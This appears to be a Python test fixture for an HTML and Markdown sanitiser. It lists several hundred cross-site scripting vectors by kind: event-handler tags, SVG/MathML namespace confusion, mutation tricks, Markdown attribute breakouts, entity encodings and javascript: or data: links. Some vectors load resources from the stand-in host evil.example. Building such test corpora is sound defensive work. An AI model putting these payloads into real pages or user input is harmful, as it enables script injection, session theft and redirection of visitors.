# ruff: noqa: E501 - vectors are written in one line each
"""What people may type to make a reader's browser act: HTML and Markdown that goes around sanitisers, by its kind.

Written by us after the known kinds. ``{hit}`` is the script that a browser would run, ``{away}`` an address that it
would ask.
"""

_SCRIPT = "hit()"
_AWAY = "https://evil.example/asked"


def _each(text: str) -> tuple[str, ...]:
    return tuple(
        line.replace("{hit}", _SCRIPT).replace("{away}", _AWAY).replace("\\n", "\n").replace("\\t", "\t")
        for line in text.strip().split("\n")
    )


PLAIN = _each(
    """
<script>{hit}</script>
<SCRIPT>{hit}</SCRIPT>
<script/x>{hit}</script>
<script\\n>{hit}</script\\n>
<script src="{away}"></script>
<script>{hit}
<<script>{hit}//<</script>
<scr<script>ipt>{hit}</scr</script>ipt>
<script type="module">{hit}</script>
<img src=x onerror={hit}>
<img src=x onerror="{hit}"//>
<img/src=x/onerror={hit}>
<img src="{away}">
<img srcset="{away} 1x">
<img src=x:x onerror\\n=\\n{hit}>
<IMG \"\"\"><script>{hit}</script>">
<image src=x onerror={hit}>
<body onload={hit}>
<body background="{away}">
<iframe src="javascript:{hit}"></iframe>
<iframe srcdoc="<script>parent.{hit}</script>"></iframe>
<iframe src="{away}"></iframe>
<object data="javascript:{hit}"></object>
<object data="{away}"></object>
<embed src="{away}">
<embed src="javascript:{hit}">
<input autofocus onfocus={hit}>
<select autofocus onfocus={hit}>
<textarea autofocus onfocus={hit}></textarea>
<details open ontoggle={hit}><summary>a</summary></details>
<video src=x onerror={hit}></video>
<video poster="{away}"></video>
<video><source onerror={hit}></video>
<audio src=x onerror={hit}></audio>
<marquee onstart={hit}>a</marquee>
<form action="javascript:{hit}"><button autofocus>a</button></form>
<form><button formaction="javascript:{hit}">a</button></form>
<isindex type=image src=1 onerror={hit}>
<meta http-equiv="refresh" content="0;url={away}">
<meta http-equiv="refresh" content="0;url=javascript:{hit}">
<base href="{away}/"><a href="x">a</a>
<link rel=stylesheet href="{away}">
<link rel=prefetch href="{away}">
<link rel=import href="{away}">
<style>@import url("{away}");</style>
<style>*{background:url("{away}")}</style>
<style onload={hit}></style>
<div style="background:url({away})">a</div>
<div style="width:expression({hit})">a</div>
<div style="animation-name:x" onanimationstart={hit}>a</div><style>@keyframes x{}</style>
<div onmouseover={hit} style="position:fixed;inset:0">a</div>
<a href=# onclick={hit} autofocus onfocus={hit}>a</a>
<p contenteditable autofocus onfocus={hit}>a</p>
<dialog open onclose={hit}><form method=dialog><button autofocus>a</button></form></dialog>
<button popovertarget=x onclick={hit}>a</button><div popover id=x onbeforetoggle={hit}>b</div>
<x onclick={hit} tabindex=1 autofocus onfocus={hit}>a</x>
<portal src="{away}"></portal>
<slot onslotchange={hit}>a</slot>
<div is="x-y" onfocusin={hit} tabindex=1 autofocus>a</div>
"""
)
"""Tags and attributes that act, as they are."""

NAMESPACES = _each(
    """
<svg onload={hit}>
<svg/onload={hit}>
<svg><script>{hit}</script></svg>
<svg><script href="{away}"/></svg>
<svg><a xlink:href="javascript:{hit}"><text y=20>a</text></a></svg>
<svg><animate onbegin={hit} attributeName=x dur=1s>
<svg><set attributeName=onload to={hit}>
<svg><a><animate attributeName=href values=javascript:{hit} /><text y=20>a</text></a></svg>
<svg><image href="{away}"/></svg>
<svg><use href="{away}#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a xlink:href='javascript:{hit}'/></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{hit}</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror={hit}></style></svg>
<svg></p><style><a id="</style><img src=1 onerror={hit}>">
<svg><p><style><!--</style><img src=x onerror={hit}>--></style>
<svg><title><style><img title="</style><img src onerror={hit}>"></style></title></svg>
<svg><desc><noscript><img src=x onerror={hit}></noscript></desc></svg>
<svg><![CDATA[><img src=x onerror={hit}>]]></svg>
<svg><![CDATA[</svg><img src=x onerror={hit}>]]>
<svg><foreignObject><math><mi><mglyph><style><img src=x onerror={hit}></style></mglyph></mi></math></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={hit}&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror={hit}>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={hit} src>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror={hit}></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><p><style></p><img src=x onerror={hit}></style></annotation-xml>
<math><mi><style><!--</mi><img src=x onerror={hit}>--></style></math>
<math href="javascript:{hit}">a</math>
<math><maction actiontype="statusline#{away}" xlink:href="javascript:{hit}">a</maction></math>
<math><malignmark><style><img src=x onerror={hit}></style></malignmark></math>
<svg><font color=x><style><img src=x onerror={hit}></style></font></svg>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={hit}>">
<math><svg><math><mtext><style><!--</style><img src=x onerror={hit}>--></style></mtext></math></svg></math>
<svg><b><style><img src=x onerror={hit}></style></b></svg>
<svg><br><style><a title="</style><img src=x onerror={hit}>"></style>
<math><p><style><img src=x onerror={hit}></style></p></math>
<svg><metadata><style><img src=x onerror={hit}></style></metadata></svg>
<svg><feImage href="{away}"/></svg>
<svg><handler xmlns="http://www.w3.org/1999/xhtml" type="text/javascript">{hit}</handler></svg>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{hit}</x:script>
"""
)
"""Confusion of HTML, SVG and MathML, in which the same letters are parsed in another way."""

MUTATING = _each(
    """
<noscript><p title="</noscript><img src=x onerror={hit}>">
<noscript><style></noscript><img src=x onerror={hit}></style>
<noembed><p title="</noembed><img src=x onerror={hit}>">
<noframes><p title="</noframes><img src=x onerror={hit}>">
<xmp><p title="</xmp><img src=x onerror={hit}>">
<xmp><!--</xmp><img src=x onerror={hit}>-->
<plaintext><img src=x onerror={hit}>
<textarea><p title="</textarea><img src=x onerror={hit}>">
<title><p title="</title><img src=x onerror={hit}>">
<style><p title="</style><img src=x onerror={hit}>">
<template><script>{hit}</script></template>
<template shadowrootmode=open><script>{hit}</script><img src=x onerror={hit}></template>
<template><p title="</template><img src=x onerror={hit}>">
<select><template><img src=x onerror={hit}></template></select>
<select><style></select><img src=x onerror={hit}></style>
<option><style></option></select><img src=x onerror={hit}></style>
<table><tr><td><style></td></table><img src=x onerror={hit}></style>
<table><caption><svg><style></caption><img src=x onerror={hit}></style>
<table background="{away}"><tr><td background="{away}">a</td></tr></table>
<table><img src=x onerror={hit}><tr><td>a</td></tr></table>
<p><table><p><style><!--</style><img src=x onerror={hit}>--></style>
<a><table><a><img src=x onerror={hit}></a></table></a>
<form><table><form><img src=x onerror={hit}></form></table></form>
<b><p><b><p><b><p><b><p><style></b><img src=x onerror={hit}></style>
<nobr><nobr><nobr><img src=x onerror={hit}>
<li><ul><li></ul><img src=x onerror={hit}>
<!--><img src=x onerror={hit}>-->
<!---><img src=x onerror={hit}>-->
<!--a--!><img src=x onerror={hit}>-->
<!--<img src="--><img src=x onerror={hit}//">
<!-- --\\n><img src=x onerror={hit}> -->
<![endif]--><img src=x onerror={hit}>
<!--[if IE]><img src=x onerror={hit}><![endif]-->
<!doctype x [<!entity a "<img src=x onerror={hit}>">]>&a;
<!ELEMENT <img src=x onerror={hit}>
<?php echo 1 ?><img src=x onerror={hit}>
<? <img src=x onerror={hit}> ?>
</ <img src=x onerror={hit}>
</%><img src=x onerror={hit}>
</p/x/><img src=x onerror={hit}>
<a title="<img src=x onerror={hit}>">a</a>
<a title='</a><img src=x onerror={hit}>'>a
<p title=`</p><img src=x onerror={hit}>`>
<div id="x" title="`><img src=x onerror={hit}>">a</div>
<p id="\\n</p>\\n\\n<img src=x onerror={hit}>">
<a\\n\\n<img src=x onerror={hit}>
<a href="\\n\\n"><img src=x onerror={hit}>
"""
)
"""What is harmless when it is read first and acts when the browser reads its own writing again."""

ATTRIBUTES = _each(
    """
[a](https://e.example/"onmouseover={hit}")
[a](https://e.example/ "x" onmouseover={hit})
[a](https://e.example/ 'x" onmouseover="{hit}')
[a](https://e.example/ "&quot; onmouseover=&quot;{hit}")
[a](https://e.example/&quot;onmouseover=&quot;{hit})
[a](<https://e.example/" onmouseover="{hit}>)
[a](https://e.example/%22onmouseover=%22{hit})
[a](https://e.example/'onmouseover='{hit})
[a](https://e.example/`onmouseover=`{hit})
[a](https://e.example/\\t"onmouseover={hit})
<https://e.example/"onmouseover={hit}>
<https://e.example/'><img src=x onerror={hit}>
<https://e.example/><img/src=x/onerror={hit}>
[<img src=x onerror={hit}>](https://e.example/)
[a]: https://e.example/ "x\\"><img src=x onerror={hit}>"\\n\\n[a]
[a]: <https://e.example/"><img/src=x/onerror={hit}>\\n\\n[a]
[a][b]\\n\\n[b]: https://e.example/"onmouseover={hit}
![a](https://e.example/x.png"onerror="{hit})
![a]({away})
![a][b]\\n\\n[b]: {away}
![{hit}](x "onerror={hit}")
[![a]({away})](https://e.example/)
1\\"onmouseover={hit}. a
1. a\\n{start="x" onmouseover={hit}}
```"><img src=x onerror={hit}>\\na\\n```
```html onmouseover={hit}\\na\\n```
~~~ "><script>{hit}</script>\\na\\n~~~
`<img src=x onerror={hit}>`
    <img src=x onerror={hit}>
|a|b|\\n|:-:"onmouseover={hit}|-|\\n|<img src=x onerror={hit}>|1|
|a|\\n|-|\\n|`|`<img src=x onerror={hit}>|
# a {onmouseover={hit}}
# <img src=x onerror={hit}>
<h1>a\\n===
> <img src=x\\n> onerror={hit}>
- <img src=x\\n\\n  onerror={hit}>
**<img src=x onerror={hit}>**
~~<img src=x onerror={hit}>~~
a\\\\<img src=x onerror={hit}>
\\\\\\\\<img src=x onerror={hit}>
\\<img src=x onerror={hit}\\>
"""
)
"""Markdown from whose text something would get into an attribute, or which quotes HTML."""

ENTITIES = _each(
    """
&lt;img src=x onerror={hit}&gt;
&amp;lt;img src=x onerror={hit}&amp;gt;
&#60;img src=x onerror={hit}&#62;
&#x3c;img src=x onerror={hit}&#x3e;
&#0000060;script>{hit}&#60;/script>
&lt&semi;img src=x onerror={hit}>
&#60img src=x onerror={hit}&#62
&LT;img src=x onerror={hit}&GT;
&nvlt;img src=x onerror={hit}>
&lt;&#x2f;p&gt;&lt;img src=x onerror={hit}&gt;
`&lt;img src=x onerror={hit}&gt;`
```\\n&lt;img src=x onerror={hit}&gt;\\n```
[a](&lt;img src=x onerror={hit}&gt;)
[&lt;img src=x onerror={hit}&gt;](https://e.example/)
\ufe64img src=x onerror={hit}\ufe65
\uff1cimg src=x onerror={hit}\uff1e
\u2039img src=x onerror={hit}\u203a
<\u200bimg src=x onerror={hit}>
<\u0000img src=x onerror={hit}>
<img\u00a0src=x\u00a0onerror={hit}>
<img\u3000src=x\u3000onerror={hit}>
<img src=x onerror\u2028={hit}>
+ADw-img src=x onerror={hit}+AD4-
%3Cimg src=x onerror={hit}%3E
\\u003cimg src=x onerror={hit}\\u003e
"""
)
"""What becomes a tag when it is decoded once too often."""

ADDRESSES = _each(
    """
[a](javascript:{hit})
[a](JaVaScRiPt:{hit})
[a](javascript&colon;{hit})
[a](javascript&#58;{hit})
[a](javascript&#x3a;{hit})
[a](javascript&#0000058{hit})
[a](&#106;avascript:{hit})
[a](&#x6A;&#x61;vascript:{hit})
[a](java&Tab;script:{hit})
[a](java&NewLine;script:{hit})
[a](java&#10;script:{hit})
[a](java&#13;script:{hit})
[a](java&#9;script:{hit})
[a](java&#0;script:{hit})
[a](&#1;javascript:{hit})
[a](&#14;javascript:{hit})
[a](&#32;javascript:{hit})
[a](&nbsp;javascript:{hit})
[a](\u00a0javascript:{hit})
[a](\u3000javascript:{hit})
[a](\ufeffjavascript:{hit})
[a](\u200bjavascript:{hit})
[a](%6Aavascript:{hit})
[a](javascript%3A{hit})
[a](javascript:%68it())
[a](\\javascript:{hit})
[a](java\\script:{hit})
[a](javascript\\:{hit})
[a](<javascript:{hit}>)
[a](< javascript:{hit}>)
[a]( javascript:{hit} )
[a](javascript://e.example/%0a{hit})
[a](javascript:/*https://e.example/*/{hit})
[a](https:javascript:{hit})
[a](feed:javascript:{hit})
[a](view-source:javascript:{hit})
[a](jar:javascript:{hit}!/)
[a](vbscript:msgbox(1))
[a](livescript:{hit})
[a](data:text/html,<script>{hit}</script>)
[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)
[a](DATA:text/html,<script>{hit}</script>)
[a](data:image/svg+xml,<svg onload={hit}>)
[a](data:,{hit})
[a](blob:https://e.example/x)
[a](filesystem:https://e.example/x)
[a](file:///etc/passwd)
[a](about:blank#{hit})
[a](chrome://settings)
[a](intent://x#Intent;scheme=javascript;end)
[a](ms-officecmd:x)
[a](tel:0)
[a](//evil.example/)
[a](\\\\evil.example/)
[a](/\\evil.example)
[a](?next=javascript:{hit})
[a](#" onclick="{hit})
[a]: javascript:{hit}\\n\\n[a]
[a]: <javascript:{hit}>\\n\\n[a]
[a]: java&Tab;script:{hit}\\n\\n[a]
[a][JS]\\n\\n[js]: javascript:{hit}
<javascript:{hit}>
<JAVASCRIPT:{hit}>
<java&Tab;script:{hit}>
<data:text/html,<script>{hit}</script>>
<a href="javascript:{hit}">a</a>
<a href="jav\\tascript:{hit}">a</a>
<a href=javascript&colon;{hit}>a</a>
<a href="\\njavascript:{hit}">a</a>
<a xlink:href="javascript:{hit}">a</a>
<a ping="{away}" href="https://e.example/">a</a>
<area href="javascript:{hit}">
"""
)
"""``javascript:`` and its like in all guises."""

CORPUS = {
    f"{kind} {n}": vector
    for kind, vectors in (
        ("plain", PLAIN),
        ("namespace", NAMESPACES),
        ("mutating", MUTATING),
        ("attribute", ATTRIBUTES),
        ("entity", ENTITIES),
        ("address", ADDRESSES),
    )
    for n, vector in enumerate(vectors, 1)
}
